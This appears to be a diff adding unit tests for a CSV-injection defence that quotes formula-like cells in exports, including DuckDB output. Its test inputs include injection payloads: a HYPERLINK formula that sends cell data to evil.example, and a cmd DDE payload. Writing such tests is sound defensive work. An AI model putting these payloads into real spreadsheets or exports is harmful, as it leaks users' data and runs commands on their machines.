@@ -1,0 +1,48 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { NodeDuckDB } from '../data/node-duckdb';
+import { neutraliseFormula } from './csv-safe';
+
+describe('neutraliseFormula (OWASP CSV Injection: prefix a leading = + - @ tab CR with a quote)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
+    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
+    ['@SUM(1+1)*cmd', `'@SUM(1+1)*cmd`],
+    ['-1+1', `'-1+1`],
+    ['\t=1', `'\t=1`],
+    ['\r=1', `'\r=1`],
+    ['-', `'-`],
+  ])('%j is neutralised', (input, expected) => expect(neutraliseFormula(input)).toBe(expected));
+
+  it.each(['hello', '-12.5', '+44', '1e-3', '-.5', '', "'=already quoted", ' =1 (leading space is not a formula)', 'a=b'])(
+    '%j is left as it is',
+    (input) => expect(neutraliseFormula(input)).toBe(input),
+  );
+});
+
+describe('DuckDB CSV export (the app, the runner and the SQL console all export through it)', () => {
+  let db: NodeDuckDB;
+  beforeAll(async () => {
+    db = await NodeDuckDB.create();
+    await db.exec(`CREATE TABLE t AS SELECT * FROM (VALUES
+      (1, '=HYPERLINK("http://x")', -3.5, '-1+1'),
+      (2, 'plain', 4.0, '-7'),
+      (3, NULL, NULL, '@SUM(A1)')) AS v(id, note, delta, "=cmd")`);
+  });
+  afterAll(() => db.close());
+
+  it('prefixes formula-like text cells and header names; numbers and plain numeric text stay', async () => {
+    const csv = new TextDecoder().decode(await db.exportCsv('SELECT * FROM t ORDER BY id DESC'));
+    // By hand: DuckDB quotes a field holding '"' (doubling it) or ','; -3.5 is a DOUBLE column, untouched.
+    expect(csv.trim().split('\n')).toEqual([
+      "id,note,delta,'=cmd",
+      "3,,,'@SUM(A1)",
+      '2,plain,4.0,-7',
+      `1,"'=HYPERLINK(""http://x"")",-3.5,'-1+1`,
+    ]);
+  });
+
+  it('leaves a query with no text and no formula-like names byte-identical', async () => {
+    const csv = new TextDecoder().decode(await db.exportCsv('SELECT id, delta FROM t ORDER BY id'));
+    expect(csv).toBe('id,delta\n1,-3.5\n2,4.0\n3,\n');
+  });
+});
